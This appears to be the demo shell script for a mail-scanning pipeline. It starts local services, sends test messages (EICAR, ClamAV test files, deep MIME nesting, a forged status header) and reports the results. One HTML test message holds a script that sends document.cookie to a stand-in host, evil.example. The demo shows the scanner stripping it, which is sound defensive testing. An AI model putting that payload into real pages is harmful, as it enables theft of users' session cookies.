#!/bin/sh
# make demo: the single-host pipeline of mailscan(7) on loopback ports in a
# scratch directory, under a supervisor, with mail sent through it and the
# results shown.  The scratch directory is left for exploring.
#
#   SMTP in (ms-smtpd, subscribers checked at RCPT) -> verify -> subscriber
#   -> clamav (MS_ACTION=clean) -> yara -> active (scripts out) -> stamp
#   -> relay into
#   $scratch/mail/DOMAIN/USER (maildirs)
set -eu
top=${MS_TOP:-$(pwd)}
bin=$(dirname "$(command -v ms-smtpd)")
scratch=$(mktemp -d "${TMPDIR:-/tmp}/mailscan-demo.XXXXXX")
chmod 755 "$scratch"
msgs=$scratch/messages
mkdir -p "$msgs"

if [ "$(id -u)" = 0 ]; then user=nobody; else user=$(id -un); fi
port=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])')

echo "demo: scratch directory $scratch"
ms-setup -u "$user" -p "$port" -l 127.0.0.1 -m "$scratch/mail/%d/%u" \
	-s "$top/etc" "$scratch" 2>"$scratch/setup.log"
sv=$scratch/sv
# This demo cleans what ClamAV finds and keeps YARA's default, quarantine.
mkdir -p "$sv/clamav/env"
echo clean > "$sv/clamav/env/MS_ACTION"
# The admin hears of what is cleaned, quarantined or not scanned.
echo postmaster@example.org > "$sv/.env/MS_ADMIN"
# ms-smtpd refuses recipients outside etc/mailscan/subscribers (@example.org).
echo "$scratch/etc/mailscan/subscribers.cdb" > "$sv/smtpd/env/MS_SUBSCRIBERS"

# Start a supervisor: s6, runit or daemontools, whichever is here.
if command -v s6-svscan >/dev/null 2>&1; then
	super=s6; s6-svscan "$sv" >"$scratch/supervisor.log" 2>&1 &
elif command -v runsvdir >/dev/null 2>&1; then
	super=runit; runsvdir "$sv" >"$scratch/supervisor.log" 2>&1 &
else
	super=daemontools; svscan "$sv" >"$scratch/supervisor.log" 2>&1 &
fi
superpid=$!
stop() {
	case $super in
	s6) s6-svscanctl -t "$sv" 2>/dev/null || kill "$superpid" ;;
	runit) kill -HUP "$superpid" ;;
	*) kill "$superpid"; for d in "$sv"/*/; do svc -dx "$d" "$d/log" 2>/dev/null || :; done ;;
	esac
	wait "$superpid" 2>/dev/null || :
}
trap stop EXIT INT TERM
echo "demo: $super supervising $(ls "$sv" | wc -l) services; SMTP on 127.0.0.1:$port"

i=0
until swaks --server "127.0.0.1:$port" --quit-after EHLO >/dev/null 2>&1; do
	i=$((i + 1)); [ $i -lt 100 ] || { echo "demo: ms-smtpd did not come up" >&2; exit 111; }
	sleep 0.1
done

# The messages, made here so that nothing infected lives in the repository.
python3 - "$msgs" <<'EOF'
import base64, binascii, io, sys, time, zipfile
d = sys.argv[1]
eicar = rb'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'
clam = open('/usr/share/clamav-testfiles/clam.exe', 'rb').read()
def b64(b):
    s = base64.b64encode(b).decode()
    return '\n'.join(s[i:i+76] for i in range(0, len(s), 76))
def msg(n, subject, body, headers='', ctype='text/plain'):
    with open(f'{d}/{n}.eml', 'w', newline='\n') as f:
        f.write(f'From: demo@example.org\nTo: alice@example.org\nSubject: demo {n}: {subject}\n'
                f'Message-ID: <demo{n}@example.org>\nMIME-Version: 1.0\n{headers}'
                f'Content-Type: {ctype}\n\n{body}')
def attach(name, data, ctype='application/octet-stream'):
    return ('multipart/mixed; boundary="b"',
            f'--b\nContent-Type: text/plain\n\nSee the attachment.\n\n--b\n'
            f'Content-Type: {ctype}; name="{name}"\nContent-Disposition: attachment; filename="{name}"\n'
            f'Content-Transfer-Encoding: base64\n\n{b64(data)}\n--b--\n')
msg(1, 'a clean message', 'Hello Alice, nothing to see here.\n')
ct, body = attach('eicar.com', eicar)
msg(2, 'EICAR as an attachment', body, ctype=ct)
z = io.BytesIO()
with zipfile.ZipFile(z, 'w') as zf:
    zf.writestr('clam.exe', clam)
ct, body = attach('invoice.zip', z.getvalue(), 'application/zip')
msg(3, 'a ClamAV test file in a zip', body, ctype=ct)
uu = ''.join(binascii.b2a_uu(clam[i:i+45]).decode() for i in range(0, len(clam), 45))
msg(4, 'a uuencoded executable in the text', f'Here is the tool:\n\nbegin 644 tool.exe\n{uu}`\nend\n\nBye.\n')
msg(5, 'a forged status header', 'mailscan-marker-alpha mailscan-marker-bravo mailscan-marker-charlie\n',
    headers=f'X-Mailscan-Status: clean; by=scanner.example.org; engines=clamav; t={int(time.time())};\n'
            ' bh=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=;\n s=forged\n')
nest = 'multipart/mixed; boundary="n0"'
inner = 'Content-Type: text/plain\n\ndeep inside\n'
for k in range(29, -1, -1):
    inner = f'Content-Type: multipart/mixed; boundary="n{k}"\n\n--n{k}\n{inner}--n{k}--\n'
msg(6, 'MIME nested 30 deep', inner.split('\n\n', 1)[1], ctype=nest)
msg(7, 'to a non-subscriber', 'Hello?\n')
msg(8, 'HTML with a script and a handler',
    '<html><body><p>Your <b>invoice</b> is ready.</p>\n'
    '<script>document.location="http://evil.example/?c="+document.cookie</script>\n'
    '<p><a href="https://example.org/invoice" onclick="steal()">open it</a></p>\n'
    '</body></html>\n', ctype='text/html; charset=utf-8')
EOF

echo
printf '%-40s %s\n' "message sent" "SMTP reply to the end of DATA"
for f in "$msgs"/*.eml; do
	n=$(basename "$f" .eml)
	to=alice@example.org
	[ "$n" = 7 ] && to=nobody@elsewhere.example
	out=$(swaks --server "127.0.0.1:$port" --from demo@example.org --to "$to" \
		--data "$f" 2>&1) || :
	reply=$(printf '%s\n' "$out" | sed -n 's/^<[-*][-*]* *\([0-9][0-9][0-9] .*\)/\1/p' |
		grep -v '^221 ' | tail -1)
	echo "$reply" > "$msgs/$n.reply"
	printf '%-40s %s\n' "$(sed -n 's/^Subject: //p' "$f" | head -1)" "$reply"
done

# Let the pipeline settle: nothing left between in/ and out/.
i=0
while [ $i -lt 200 ]; do
	busy=$(find "$scratch/spool/in/new" "$scratch/spool/subs/new" "$scratch/spool/scan1/new" "$scratch/spool/scan2/new" \
		"$scratch/spool/active/new" "$scratch/spool/scan3/new" "$scratch/spool/notify/new" "$scratch/spool/held/new" \
		"$scratch/spool/out/new" "$scratch/spool/bounce/new" \
		-type f 2>/dev/null | wc -l)
	[ "$busy" -eq 0 ] && break
	i=$((i + 1)); sleep 0.1
done

field() { sed -n "/^\$/q; s/^$1: //p" "$2" | head -1; }
echo
printf '%-40s %-12s %s\n' "message" "outcome" "why"
for f in "$msgs"/*.eml; do
	n=$(basename "$f" .eml)
	subj=$(sed -n 's/^Subject: //p' "$f" | head -1)
	reply=$(cat "$msgs/$n.reply")
	tag="Subject: demo $n:"
	got=$(grep -l "^$tag" "$scratch"/mail/example.org/alice/new/* 2>/dev/null | head -1) || :
	q=$(grep -l "^$tag" "$scratch"/spool/quarantine/new/* 2>/dev/null | head -1) || :
	dsn=$(grep -l "^$tag" "$scratch"/mail/example.org/demo/new/* 2>/dev/null | head -1) || :
	if [ -n "$got" ]; then
		st=$(sed -n '/^X-Mailscan-Status: /{s/^X-Mailscan-Status: \([a-z]*\);.*/\1/p;q}' "$got")
		case $st in
		cleaned)
			what=cleaned
			# what the scanners said, from the admin's notice about it
			nt=$(grep -l "^  Message-ID: <demo$n@example.org>" \
				"$scratch"/mail/example.org/postmaster/new/* 2>/dev/null | head -1) || :
			why=
			[ -n "$nt" ] && why=$(sed -n '/^What the scanners said:/,/^$/s/^  //p' "$nt" |
				grep -v ' clean$' | head -1)
			why="${why:-a part replaced}; status $st, signed" ;;
		*) what=delivered; why="status ${st:-none}, signed by this host" ;;
		esac
	elif [ -n "$q" ]; then
		what=quarantined
		why=$(sed -n '/^$/q; s/^X-Mailscan-Verdict: //p' "$q" | grep -v ' clean$' | head -1)
	elif [ -n "$dsn" ]; then
		what=rejected
		why="bounced to the sender: $(sed -n 's/^<alice@example.org>: //p' "$dsn" | head -1)"
	else
		case $reply in
		5*) what=rejected; why="at SMTP: $reply" ;;
		*) what="?"; why="not found (yet): see the logs in $sv/*/log/main" ;;
		esac
	fi
	printf '%-40s %-12s %s\n' "$subj" "$what" "$why"
done

first=$(grep -l '^Subject: demo 1:' "$scratch"/mail/example.org/alice/new/* 2>/dev/null | head -1) || :
if [ -n "$first" ]; then
	echo
	echo "the status header of a delivered message (${first#$scratch/}):"
	sed -n '/^X-Mailscan-Status:/,/^[^ \t]/p' "$first" | sed '$d' | sed 's/^/  /'
fi
html=$(grep -l '^Subject: demo 8:' "$scratch"/mail/example.org/alice/new/* 2>/dev/null | head -1) || :
if [ -n "$html" ]; then
	echo
	echo "the HTML of message 8 as delivered (ms-scan-active took the script and the handler out):"
	sed '1,/^$/d' "$html" | sed 's/^/  /'
fi
echo
echo "ms-quarantine list:"
MS_SPOOL=$scratch/spool ms-quarantine list | sed 's/^/  /'
echo
n=$(ls "$scratch"/mail/example.org/postmaster/new 2>/dev/null | wc -l)
echo "notices to postmaster@example.org: $n (in $scratch/mail/example.org/postmaster)"
echo
echo "demo: stopping the services; the spools, mail and logs stay in $scratch"
